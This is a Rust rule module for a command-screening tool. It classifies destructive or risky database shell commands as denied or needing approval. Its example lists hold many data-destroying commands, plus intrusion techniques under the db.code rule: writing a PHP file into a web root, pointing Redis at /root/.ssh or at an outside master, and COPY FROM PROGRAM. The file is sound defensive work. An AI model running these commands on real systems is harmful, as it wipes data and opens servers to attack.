//! Data in databases: dropped, truncated, flushed, deleted without a condition.

mod http;
mod keys;
mod mongo;
mod scratch;
mod sql;
mod statements;

pub use scratch::{dated, milder, only_scratch, scratch, transient};

use super::{Call, Hit, Rule, rules};
use http::delete_by_http;
use keys::{prefixes, redis};
use mongo::mongo;
use sql::sql;
use statements::{dropped_databases, statements};

rules! {
    DROP = "db.drop", Deny, "It drops a database, a schema or a table with all its data.",
        matches ["mysql -e 'DROP DATABASE app'", "psql -c 'drop schema public cascade'", "dropdb app", "mysqladmin drop app -f", "echo 'DROP TABLE users;' | mysql app", "mongosh app --eval 'db.dropDatabase()'", "sqlite3 app.db 'DROP TABLE users'", "curl -d 'DROP DATABASE app' http://clickhouse:8123/", "arangosh --javascript.execute-string \"db._dropDatabase('app')\"", "db2 drop database app", "mysql app <<< 'drop table users'", "cqlsh -e 'DROP KEYSPACE app'", "psql ci_12 -c 'DROP DATABASE shop'"],
        near ["psql shop -c 'DROP TABLE orders_backup_20230101'", "dropdb app_test", "psql shop -c 'DROP DATABASE IF EXISTS ci_12'", "psql app_test -c 'DROP TABLE tmp_import'", "mysql -e \"SELECT 'DROP TABLE users'\"", "psql -c 'CREATE DATABASE app'", "mysql -e 'SHOW TABLES'", "echo 'DROP DATABASE app'", "mysql -e '-- DROP TABLE users'"];
    TRUNCATE = "db.truncate", Deny, "It deletes all rows of a table.",
        matches ["mysql app -e 'TRUNCATE TABLE users'", "psql -c 'DELETE FROM users'", "mongosh --eval 'db.users.deleteMany({})'", "psql -c 'update users set admin = true'", "mongo app --eval 'db.users.remove({})'", "psql -c 'DELETE FROM users WHERE 1=1'", "cypher-shell 'MATCH (n) DETACH DELETE n'"],
        near ["psql shop -c 'TRUNCATE TABLE sessions'", "mysql shop -e 'DELETE FROM password_resets'", "psql -c 'DELETE FROM sessions WHERE expires < now()'", "mysql -e 'UPDATE users SET name = 1 WHERE id = 2'"];
    FLUSH = "db.flush", Deny, "It empties a key-value store.",
        matches ["redis-cli FLUSHALL", "redis-cli FLUSHDB", "echo flush_all | nc localhost 11211", "etcdctl del '' --prefix", "redis-cli EVAL \"return redis.call('FLUSHALL')\" 0", "consul kv delete -recurse /", "redis-cli --scan | xargs redis-cli DEL"],
        near ["redis-cli -n 1 flushdb", "redis-cli -h cache-1 FLUSHALL", "redis-cli KEYS 'tmp:*' | xargs redis-cli DEL", "etcdctl del --prefix /app/locks/", "consul kv delete -recurse app/old-service", "redis-cli DEL session:1", "redis-cli INFO", "etcdctl get --prefix /app"];
    STOP = "db.stop", Ask, "It stops a database server, or takes it out of its cluster.",
        matches ["redis-cli SHUTDOWN NOSAVE", "mysqladmin shutdown", "pg_ctl stop -m immediate -D /data/pg", "nodetool decommission", "rabbitmqctl stop_app", "redis-cli CLUSTER RESET", "nodetool drain", "patronictl failover shop --force", "consul maint -enable", "curl -X POST http://localhost:9200/orders/_close", "curl -X PUT http://localhost:8500/v1/agent/leave", "rabbitmq-plugins disable rabbitmq_management", "curl -X POST http://localhost:9090/-/quit"],
        near ["mysqladmin status", "patronictl list", "curl -X POST http://localhost:9200/orders/_refresh", "curl -X POST http://localhost:9090/-/reload", "rabbitmq-plugins list", "pg_ctl status", "nodetool status", "rabbitmqctl status"];
    RESET = "db.reset", Deny, "It sets a database server, a queue or an index back to nothing.",
        matches ["rabbitmqctl reset", "rabbitmqctl force_reset", "curl -XDELETE http://localhost:9200/_all", "curl -X DELETE 'localhost:9200/logs-*'", "pg_resetwal -f /data/pg", "rabbitmqctl delete_vhost /", "kafka-topics.sh --delete --topic orders --bootstrap-server b:9092", "rails db:drop", "php artisan migrate:fresh --force", "RAILS_ENV=test DATABASE_URL=postgres://db.example.com/production rake db:drop", "influx -execute 'DROP DATABASE app'", "kafka-storage.sh format -t x -c server.properties", "alembic downgrade base", "sqlx database drop -y", "diesel database reset", "goose down-to 0", "migrate -path m -database x drop -f", "python manage.py migrate app zero", "rabbitmqctl list_queues -q name | xargs -n1 rabbitmqctl delete_queue"],
        near ["curl -XDELETE 'http://localhost:9200/logs-2022.*'", "sqlx database create", "diesel migration run", "goose status", "python manage.py migrate app", "rabbitmqctl delete_queue old-imports", "curl http://localhost:9200/_cat/indices", "rabbitmqctl list_queues", "kafka-topics.sh --list --bootstrap-server b:9092", "rails db:migrate", "php artisan migrate", "RAILS_ENV=test rake db:drop", "RAILS_ENV=test DATABASE_URL=postgres://localhost/shop_test rake db:drop"];
    PURGE = "db.purge", Ask, "It deletes messages, keys, logs of changes or older rows.",
        matches ["dropdb app_test", "rabbitmqctl purge_queue jobs", "mysql -e 'PURGE BINARY LOGS BEFORE NOW()'", "mysql -e 'RESET MASTER'", "redis-cli CONFIG SET dir /tmp", "curl -X DELETE http://localhost:9200/logs-2020.01", "kafka-consumer-groups.sh --reset-offsets --to-latest --execute --group g --topic t", "mysql -e 'SET GLOBAL read_only=0'", "psql -c 'ALTER TABLE users DROP COLUMN email'", "psql shop -c 'TRUNCATE TABLE sessions'", "redis-cli -n 3 FLUSHDB", "psql shop -c 'DROP TABLE events_2022_01'", "mongosh shop --eval 'db.sessions.drop()'"],
        near ["mysql -e 'SHOW BINARY LOGS'", "redis-cli CONFIG GET dir"];
    GRANT = "db.grant", Ask, "It gives an account all rights, from anywhere.",
        matches ["mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION\"", "psql -c 'ALTER ROLE app SUPERUSER'", "mysql -e \"DROP USER 'app'@'%'\"", "psql -c 'REVOKE ALL ON DATABASE app FROM app'", "dropuser app", "mysqld_safe --skip-grant-tables", "sed -i s/md5/trust/ /etc/postgresql/15/main/pg_hba.conf"],
        near ["grep trust /etc/postgresql/15/main/pg_hba.conf", "mysql -e \"GRANT SELECT ON app.* TO 'r'@'10.0.0.5'\"", "mysql -e 'SHOW GRANTS'"];
    CODE = "db.code", Deny, "It makes the database server write a file or run a program.",
        matches ["redis-cli CONFIG SET dir /root/.ssh", "mysql -e \"SELECT '<?php' INTO OUTFILE '/var/www/x.php'\"", "psql -c \"COPY t FROM PROGRAM 'id'\"", "redis-cli SLAVEOF 203.0.113.9 6379", "redis-cli MODULE LOAD /tmp/x.so"],
        near ["psql -c \"COPY t TO STDOUT\"", "redis-cli REPLICAOF NO ONE"];
}

/// Rows.
pub static SPECS: &[(&str, &Rule)] = &[
    (
        "mysqld|mysqld_safe|mariadbd|mariadbd-safe --skip-grant-tables",
        &GRANT,
    ),
    ("mongod --shutdown", &STOP),
    ("pg_rewind", &STOP),
    (
        "repmgr standby|primary|node switchover|promote|unregister|rejoin",
        &STOP,
    ),
    ("patronictl remove|reinit", &PURGE),
    ("patronictl failover|switchover|pause", &STOP),
    ("mysqlimport|mariadb-import --delete", &PURGE),
    ("pt-archiver --purge", &PURGE),
    ("redis-cli del-node --cluster", &STOP),
    ("influxd|influx restore", &STOP),
    ("etcdctl auth disable", &STOP),
    ("etcdctl user|role delete", &PURGE),
    ("consul operator raft remove-peer", &STOP),
    ("consul services deregister", &STOP),
    ("consul acl delete", &PURGE),
    ("consul maint -enable", &STOP),
    ("consul intention create -deny", &STOP),
    ("consul intention delete", &PURGE),
    ("vault operator generate-root", &STOP),
    ("vault policy delete", &PURGE),
    ("rabbitmqctl close_all_connections|eval|close_connection", &STOP),
    ("rabbitmqctl set_user_tags administrator", &GRANT),
    ("rabbitmq-plugins disable", &STOP),
    ("kafka-acls.sh|kafka-acls --remove", &PURGE),
    ("rpk topic|group|cluster delete", &PURGE),
    (
        "kafka-leader-election.sh|kafka-leader-election --all-topic-partitions",
        &STOP,
    ),
    ("neo4j-admin --overwrite-destination", &PURGE),
    ("solr delete|delete_core|delete_collection", &PURGE),
    ("mc admin user|policy|group remove|disable|rm", &PURGE),
    ("python|python3 manage.py migrate * zero", &RESET),
    ("manage.py|django-admin migrate * zero", &RESET),
    ("goose reset|down-to", &RESET),
    ("migrate drop", &RESET),
    ("migrate down -all|--all", &RESET),
    ("dbmate drop", &RESET),
    (
        "liquibase rollback|rollback-count|rollbackCount|rollback-to-date",
        &PURGE,
    ),
    ("sqlx database drop|reset", &RESET),
    ("diesel database reset|drop", &RESET),
    ("hasura migrate apply --down", &PURGE),
    ("supabase db reset", &PURGE),
    ("supabase db reset --linked|--db-url", &RESET),
    ("dropuser", &GRANT),
    ("mysqladmin|mariadb-admin drop", &DROP),
    ("mysqladmin|mariadb-admin shutdown", &STOP),
    (
        "mysqladmin|mariadb-admin flush-hosts_|password|start-slave_|stop-slave|stop-replica|kill",
        &STOP,
    ),
    ("pg_ctl stop|promote", &STOP),
    ("pg_ctlcluster ~stop", &STOP),
    ("pg_dropcluster", &DROP),
    ("pg_resetwal|pg_resetxlog", &RESET),
    ("pg_restore -c|--clean", &PURGE),
    ("mongorestore --drop", &PURGE),
    ("initdb|pg_createcluster ~/var/lib", &RESET),
    (
        "mysql_install_db|mysqld --initialize|--initialize-insecure",
        &RESET,
    ),
    (
        "nodetool decommission|removenode|assassinate|drain|stopdaemon|disablegossip|disablebinary",
        &STOP,
    ),
    ("nodetool clearsnapshot|truncatehints", &PURGE),
    ("rabbitmqctl reset|force_reset|delete_vhost", &RESET),
    ("rabbitmqctl stop|stop_app|shutdown|forget_cluster_node", &STOP),
    (
        "rabbitmqctl purge_queue|delete_queue|delete_user|clear_permissions|change_password",
        &PURGE,
    ),
    ("rabbitmqadmin delete|purge", &PURGE),
    ("kafka-topics.sh|kafka-topics --delete", &RESET),
    ("kafka-storage.sh|kafka-storage format", &RESET),
    ("alembic downgrade base", &RESET),
    ("dotnet ef database drop", &DROP),
    ("dotnet-ef database drop", &DROP),
    ("db2 drop database|db|schema|table", &DROP),
    ("neo4j-admin|cypher-shell database delete|drop", &DROP),
    ("mongorestore|mongoimport --drop", &PURGE),
    ("createdb_|dropuser_", &PURGE),
    ("kafka-delete-records.sh|kafka-delete-records", &RESET),
    (
        "kafka-consumer-groups.sh|kafka-consumer-groups --delete|--reset-offsets",
        &PURGE,
    ),
    ("kafka-configs.sh|kafka-configs ~retention.ms=1", &RESET),
    ("zkCli.sh|zookeepercli deleteall|rmr", &RESET),
    ("etcdctl del|rm --from-key", &FLUSH),
    ("etcdctl del|rm", &PURGE),
    ("etcdctl member remove", &STOP),
    ("etcdctl snapshot restore", &STOP),
    ("nats stream|str purge -f|--force", &RESET),
    ("consul kv delete", &PURGE),
    ("consul leave|force-leave", &STOP),
    ("consul snapshot restore", &STOP),
    ("vault operator seal|rekey|step-down", &STOP),
    ("vault operator raft remove-peer", &STOP),
    ("vault secrets|auth disable", &DROP),
    ("vault kv|lease|token metadata|destroy|revoke delete", &PURGE),
    ("vault kv|delete destroy", &PURGE),
    ("vault delete", &PURGE),
    ("vault lease|token revoke -prefix -force", &RESET),
    ("vault lease|token revoke -prefix", &PURGE),
    ("vault delete sys/mounts/*|sys/auth/*", &DROP),
    ("influx bucket|delete delete", &DROP),
    ("influx delete", &PURGE),
    ("influx bucket delete", &DROP),
    ("influxd inspect delete-tsm", &PURGE),
    ("cockroach node decommission|drain", &STOP),
    (
        "rails|rake|bin/rails db:drop|db:reset|db:schema:load|db:truncate_all|db:purge|db:migrate:reset",
        &RESET,
    ),
    (
        "artisan migrate:fresh|migrate:reset|db:wipe|migrate:refresh",
        &RESET,
    ),
    (
        "php artisan migrate:fresh|migrate:reset|db:wipe|migrate:refresh",
        &RESET,
    ),
    (
        "python|python3|django-admin manage.py flush|reset_db|sqlflush",
        &RESET,
    ),
    ("python|python3 manage.py flush|reset_db", &RESET),
    ("django-admin|manage.py flush|reset_db", &RESET),
    ("prisma migrate reset", &RESET),
    ("prisma db push --force-reset|--accept-data-loss", &RESET),
    ("npx prisma migrate reset", &RESET),
    ("npx prisma db --force-reset", &RESET),
    ("npx sequelize|sequelize-cli db:drop|db:migrate:undo:all", &RESET),
    (
        "sequelize|typeorm|knex|mix db:drop|schema:drop|migrate:rollback|ecto.drop|ecto.reset",
        &RESET,
    ),
    ("flyway|liquibase clean|drop-all|dropAll", &RESET),
    ("wp db reset|drop|clean", &RESET),
    ("drush sql-drop|sql:drop|site-install", &RESET),
    (
        "doctrine|console doctrine:database:drop|doctrine:schema:drop",
        &RESET,
    ),
    ("mc admin bucket|service remove|stop", &STOP),
    ("nats stream|str rm|purge|del", &PURGE),
    ("couchbase-cli bucket-delete|bucket-flush", &DROP),
    ("elasticsearch-plugin remove", &STOP),
    ("elasticsearch-node unsafe-bootstrap|detach-cluster", &RESET),
    ("influx_inspect", &STOP),
    ("memcflush", &FLUSH),
    ("memcached-tool flush_all", &FLUSH),
    ("pgbackrest stanza-delete", &PURGE),
    ("barman delete", &PURGE),
    ("clickhouse-keeper-client|zookeeper-client ~deleteall", &RESET),
];

const SQL: &str = "mysql mariadb psql sqlite3 sqlite cqlsh clickhouse-client clickhouse pgcli mycli sqlcmd sqlplus influx cockroach usql duckdb mysqlsh bq trino presto hive beeline impala-shell snowsql isql db2 mssql-cli cypher-shell";
/// Options of their clients that say who asks which server, and how the answer looks.
const SERVER: &[&str] = &[
    "-U",
    "-u",
    "-h",
    "-H",
    "-S",
    "-P",
    "-o",
    "-L",
    "--user",
    "--username",
    "--host",
    "--socket",
    "--login-path",
    "--defaults-file",
    "--defaults-extra-file",
    "--defaults-group-suffix",
    "--output",
    "--log-file",
];
const MONGO: &str = "mongo mongosh arangosh";

/// Applies the rules of this family.
pub fn check(call: &Call<'_>) -> Vec<Hit> {
    if call.is(SQL) {
        // Whose account and which server it is does not say what is lost.
        let mut before = "";
        let scratch = call.words().any(|word| {
            let option = std::mem::replace(&mut before, word);
            scratch(word) && !SERVER.contains(&option)
        });
        // The database that a statement drops counts, not the one that the client is connected to.
        let scratch = match dropped_databases(call) {
            names if names.is_empty() => scratch,
            names => names.iter().all(|name| self::scratch(name)),
        };
        let mut hits = statements(call)
            .iter()
            .flat_map(|text| sql(text))
            .collect::<Vec<_>>();
        if call.stdin.steps.iter().any(|step| step == "generated statements") {
            hits.push(Hit::on(&DROP, "service data"));
        }
        if scratch {
            // Of a test or a copy for looking at: somebody may mean it.
            for hit in &mut hits {
                if hit.rule.id == DROP.id || hit.rule.id == TRUNCATE.id {
                    hit.rule = &PURGE;
                }
            }
        }
        if call.name == "influx" {
            hits.retain(|hit| hit.rule.id == DROP.id);
            if !hits.is_empty() {
                hits.push(Hit::of(&RESET));
            }
        }
        return hits;
    }
    if call.is(MONGO) {
        return statements(call).iter().flat_map(|text| mongo(text)).collect();
    }
    match call.name {
        "dropdb" => vec![Hit::of(&DROP)],
        "redis-cli" | "valkey-cli" | "keydb-cli" => redis(call),
        "etcdctl" | "consul" => prefixes(call),
        "rabbitmqctl" | "rabbitmqadmin" | "nats" | "kafka-topics.sh" | "kafka-topics"
            if call.lists_own("delete_queue purge_queue delete_vhost rm purge delete --delete --topic") =>
        {
            vec![Hit::on(&RESET, "service data")]
        }
        "nc" | "ncat" | "netcat" | "telnet" | "socat" => {
            let text = call.stdin.text.as_deref().unwrap_or_default().to_lowercase();
            if text.lines().any(|line| {
                matches!(
                    line.split_whitespace().next(),
                    Some("flush_all" | "flushall" | "flushdb")
                )
            }) {
                let cache = call
                    .words()
                    .any(|word| word.starts_with("cache") || word.starts_with("memcache"));
                vec![Hit::of(if cache { &PURGE } else { &FLUSH })]
            } else {
                Vec::new()
            }
        }
        "curl" | "http" | "https" | "wget" | "xh" => delete_by_http(call),
        "bundle" | "docker" | "bin" => Vec::new(),
        name if name.ends_with("zkCli.sh") => Vec::new(),
        _ => Vec::new(),
    }
}
